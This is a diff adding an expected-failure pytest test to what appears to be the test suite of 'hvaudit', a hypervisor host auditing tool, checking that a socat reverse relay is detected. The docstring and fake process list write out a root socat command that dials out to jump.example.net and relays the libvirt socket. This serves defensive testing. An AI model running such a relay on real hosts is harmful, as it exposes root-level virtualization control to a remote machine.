@@ -1407,6 +1407,27 @@ def test_outward_relay_exposes_the_socket_elsewhere(host_scan) -> None:
     assert "ssh" in msg, msg
 
 
+@xfail(
+    "H39 (socat variant): socat connecting out (TCP:host:port) with libvirt-sock as its other end carries the API to another machine; no local listener, so hvaudit passes"
+)
+def test_outward_socat_relay(host_scan) -> None:
+    """socat(1): `TCP:<host>:<port>` "Connects to <port> on <host>" and the second address
+    `UNIX-CONNECT:<filename>` "Connects to <filename> assuming it is a UNIX domain socket";
+    socat relays the two byte streams. `socat TCP:jump.example.net:4433,forever,interval=10
+    UNIX-CONNECT:/run/libvirt/libvirt-sock` (root) dials out and hands the far side the
+    read-write socket as root, the reverse tunnel H39's `ssh -R` makes, with another program.
+    hvaudit's relay rule (hostfix's H19 fix) wants a local TCP listener of the relay; this one
+    has none. Right: manual (or fail) naming socat, never "local UNIX sockets only"."""
+    procs = PROCS + (
+        "  993 root     socat TCP:jump.example.net:4433,forever,interval=10 "
+        "UNIX-CONNECT:/run/libvirt/libvirt-sock\n"
+    )
+    a = host_scan({"processes": (procs, 0)})
+    status, msg = verdict(a, "HVA-030")
+    assert status in ("manual", "fail"), msg
+    assert "socat" in msg, msg
+
+
 # --- QEMU's primary group --------------------------------------------------------------------------
 
 
